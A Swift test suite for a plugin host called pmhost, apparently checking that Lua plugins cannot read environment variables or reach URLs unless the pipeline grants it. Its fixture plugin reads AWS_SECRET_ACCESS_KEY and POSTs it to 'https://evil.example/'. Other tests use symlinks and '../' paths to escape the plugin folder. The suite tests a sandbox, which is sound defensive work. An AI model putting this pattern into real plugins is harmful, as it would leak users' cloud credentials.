import Foundation
import Testing

/// Only the pipeline grants reach: a plugin whose option defaults name a URL or an
/// environment variable is refused at load by `pmhost check` and `pmhost run` (exit 2),
/// and bundled plugins that reach out need the pipeline to name where.
@Suite struct ReachTests {
  static let pipeline = """
    return {
      incident = { id = "PM-REACH", title = "Reach", started_at = "2025-02-09T10:00:00Z",
        ended_at = "2025-02-09T11:00:00Z" },
      collect = { "grab" },
      report = { "json" },
    }
    """

  /// A collector that reads the variable and posts it to the URL its defaults name.
  static func plugin(options: String) -> String {
    """
    return {
      name = "grab", api = 2, stage = "collect",
      options = { \(options) },
      run = function(ctx, opts)
        local secret = ctx.env(opts.token_env or "AWS_SECRET_ACCESS_KEY")
        ctx.http.post(opts.url or opts.endpoint or "https://evil.example/", { body = tostring(secret) })
      end,
    }
    """
  }

  struct Case: CustomTestStringConvertible, Sendable {
    var name: String
    var options: String
    /// What the refusal must say about the option and its default.
    var says: [String]
    var testDescription: String { name }
  }

  static let cases: [Case] = [
    Case(
      name: "url and token_env defaults",
      options: #"url = { type = "string", default = "https://evil.example/" }, "#
        + #"token_env = { type = "string", default = "AWS_SECRET_ACCESS_KEY" }"#,
      says: ["option 'token_env'", #"default "AWS_SECRET_ACCESS_KEY""#, "names an environment variable"]),
    Case(
      name: "url default alone",
      options: #"url = { type = "string", default = "https://evil.example/" }"#,
      says: ["option 'url'", #"default "https://evil.example/""#, "names a URL"]),
    Case(
      name: "a *url option's default without a scheme",
      options: #"api_url = { type = "string", default = "evil.example" }"#,
      says: ["option 'api_url'", #"default "evil.example""#, "names a URL"]),
    Case(
      name: "a URL in another option's default",
      options: #"endpoint = { type = "string", default = "HTTPS://evil.example/collect" }"#,
      says: ["option 'endpoint'", "contains a URL"]),
    Case(
      name: "a URL inside a list default",
      options: #"mirrors = { type = "list", default = { "a", "ftp://evil.example/" } }"#,
      says: ["option 'mirrors'", #"holding "ftp://evil.example/""#, "contains a URL"]),
    Case(
      name: "an env option's default",
      options: #"env = { type = "string", default = "HOME" }"#,
      says: ["option 'env'", #"default "HOME""#, "names an environment variable"]),
  ]

  @Test(arguments: cases) func aPluginWhoseDefaultsGrantReachIsRefusedAtLoad(_ attack: Case) throws {
    let scratch = try Scratch()
    defer { scratch.remove() }
    try scratch.write("pipeline.lua", Self.pipeline)
    try scratch.write("plugins/grab/init.lua", Self.plugin(options: attack.options))
    for command in [["check", "pipeline.lua"], ["run", "pipeline.lua"]] {
      let result = try PMHostProcess.run(command, in: scratch.path)
      #expect(result.status == 2, "\(command): \(result.stderr)")
      for part in ["plugin grab", "options that grant reach must be set in the pipeline"] + attack.says {
        #expect(result.stderr.contains(part), "\(command): no \(part) in \(result.stderr)")
      }
    }
    #expect(!FileManager.default.fileExists(atPath: scratch.path + "/out/report.json"))
  }

  @Test func optionsTheyNameInThePipelineStillGrantReach() throws {
    let scratch = try Scratch()
    defer { scratch.remove() }
    try scratch.write(
      "pipeline.lua",
      Self.pipeline.replacingOccurrences(
        of: #"collect = { "grab" }"#,
        with: #"collect = { { "grab", url = "http://127.0.0.1:9/in", token_env = "PMHOST_REACH_TEST" } }"#))
    try scratch.write(
      "plugins/grab/init.lua",
      Self.plugin(options: #"url = { type = "string" }, token_env = { type = "string" }"#))
    let result = try PMHostProcess.run(["run", "pipeline.lua"], in: scratch.path)
    #expect(result.status == 0, "\(result.stderr)")
    // The request was made (and refused by the closed port): reach was granted.
    #expect(result.stderr.contains("POST http://127.0.0.1:9/in"), "\(result.stderr)")
    #expect(!result.stderr.contains("may not"), "\(result.stderr)")
  }

  @Test func githubIssuesApiModeNeedsThePipelineToNameTheAPIAndTheToken() throws {
    let scratch = try TrackTests.example(track: #"{ { "github-issues", repo = "acme/api", mode = "api" } }"#)
    defer { scratch.remove() }
    let result = try PMHostProcess.run(["check", "pipeline.lua"], in: scratch.path)
    #expect(result.status == 2, "\(result.stderr)")
    #expect(result.stderr.contains(#"needs api_url = "https://api.github.com""#), "\(result.stderr)")
    #expect(result.stderr.contains("in the pipeline"), "\(result.stderr)")
  }

  /// Under `pmhost test` the spec, the plugin's own code, names the options: it must not
  /// grant itself a variable of the real environment, nor read files outside its folder
  /// through `setup` (and pass them on through a URL it also names).
  @Test func pmhostTestGrantsNoRealEnvironmentAndNoFileOutsideThePluginFolder() throws {
    let scratch = try Scratch()
    defer { scratch.remove() }
    try scratch.write("outside.yaml", Scratch.incident)
    try scratch.write("outside.json", "{}")
    try scratch.write(
      "plugins/leak/init.lua",
      """
      return {
        name = "leak", stage = "collect", version = "0.1.0", api = 2, description = "reads a variable",
        options = { token_env = { type = "string", doc = "the variable" } },
        run = function(ctx, opts) ctx.gap("env=" .. tostring(ctx.env(opts.token_env))) end,
      }
      """)
    try scratch.write(
      "plugins/leak/leak_spec.lua",
      """
      describe("leak", function()
        it("reads setup.env, never the real environment", function()
          assert.equals("env=nil", plugin.run({ token_env = "PMHOST_SPEC_SECRET" }).gaps[1].reason)
          local faked = plugin.run({ token_env = "PMHOST_SPEC_SECRET" }, { env = { PMHOST_SPEC_SECRET = "fake" } })
          assert.equals("env=fake", faked.gaps[1].reason)
        end)
        it("reads no setup file outside its folder", function()
          for field, path in pairs({ incident = "../../outside.yaml", report = "../../outside.json", replay = "/" }) do
            local ok, err = pcall(plugin.run, { token_env = "X_ENV" }, { [field] = path })
            assert.is_false(ok, field)
            assert.matches("setup%." .. field .. ": '" .. path:gsub("%p", "%%%0") .. "' is outside the pipeline folder", err)
          end
        end)
      end)
      """)
    let result = try PMHostProcess.run(
      ["test", "plugins/leak"], in: scratch.path, environment: ["PMHOST_SPEC_SECRET": "s3cret-value"])
    #expect(result.status == 0, "\(result.stdout)\(result.stderr)")
    #expect(result.stdout.contains("2 passed, 0 failed"), "\(result.stdout)")
    #expect(!result.stdout.contains("s3cret-value") && !result.stderr.contains("s3cret-value"))
  }

  /// `require` reads only files inside the plugin's folder: a module that is a symbolic link
  /// to a file elsewhere was loaded, so its text reached the plugin (or its syntax error).
  @Test func requireFollowsNoLinkOutOfThePluginFolder() throws {
    let scratch = try Scratch()
    defer { scratch.remove() }
    try scratch.write("secret.lua", #"return "TOPSECRET-7f3a""#)
    try scratch.write("pipe/incident.yaml", Scratch.incident)
    try scratch.write(
      "pipe/plugins/sneaky/init.lua",
      """
      return {
        name = "sneaky", stage = "collect", version = "0.1.0", api = 2, description = "requires a link",
        run = function(ctx)
          local ok, got = pcall(require, "creds")
          ctx.gap("require: " .. tostring(got))
          ctx.gap("own module: " .. require("helper"))
        end,
      }
      """)
    try scratch.write("pipe/plugins/sneaky/helper.lua", #"return "helped""#)
    try FileManager.default.createSymbolicLink(
      atPath: scratch.path + "/pipe/plugins/sneaky/creds.lua", withDestinationPath: "../../../secret.lua")
    try scratch.write(
      "pipe/pipeline.lua",
      #"return { incident = "incident.yaml", out = "out", collect = { "sneaky" }, report = { "json" } }"#)
    let result = try PMHostProcess.run(["run", "pipeline.lua"], in: scratch.path + "/pipe")
    #expect(result.status == 0, "\(result.stderr)")
    let report = try #require(scratch.read("pipe/out/report.json"))
    #expect(!report.contains("TOPSECRET") && !result.stderr.contains("TOPSECRET"), "\(report)")
    #expect(report.contains("require 'creds': no creds.lua in "), "\(report)")
    #expect(report.contains("own module: helped"), "\(report)")
  }

  /// An option typed `env` grants the variable the pipeline names in it, whatever its key;
  /// a variable no option names stays refused.
  @Test func anOptionTypedEnvGrantsTheVariableThePipelineNames() throws {
    let scratch = try Scratch()
    defer { scratch.remove() }
    try scratch.write("incident.yaml", Scratch.incident)
    try scratch.write(
      "plugins/typed.lua",
      """
      return { api = 2, stage = "collect", options = { secret = { type = "env", doc = "the variable" } },
        run = function(ctx, opts)
          ctx.log.warn("got " .. tostring(ctx.env(opts.secret)))
          ctx.log.warn("other " .. tostring(select(2, pcall(ctx.env, "PMHOST_OTHER_VAR"))))
        end }
      """)
    try scratch.write(
      "pipeline.lua",
      #"return { incident = "incident.yaml", collect = { { "typed", secret = "PMHOST_TYPED_VAR" } } }"#)
    let result = try PMHostProcess.run(
      ["run", "pipeline.lua"], in: scratch.path,
      environment: ["PMHOST_TYPED_VAR": "typed-value", "PMHOST_OTHER_VAR": "other-value"])
    #expect(result.stderr.contains("got typed-value"), "\(result.stderr)")
    #expect(
      result.stderr.contains("may read only the environment variables the pipeline names"), "\(result.stderr)"
    )
    #expect(!result.stderr.contains("other-value"), "\(result.stderr)")
  }
}
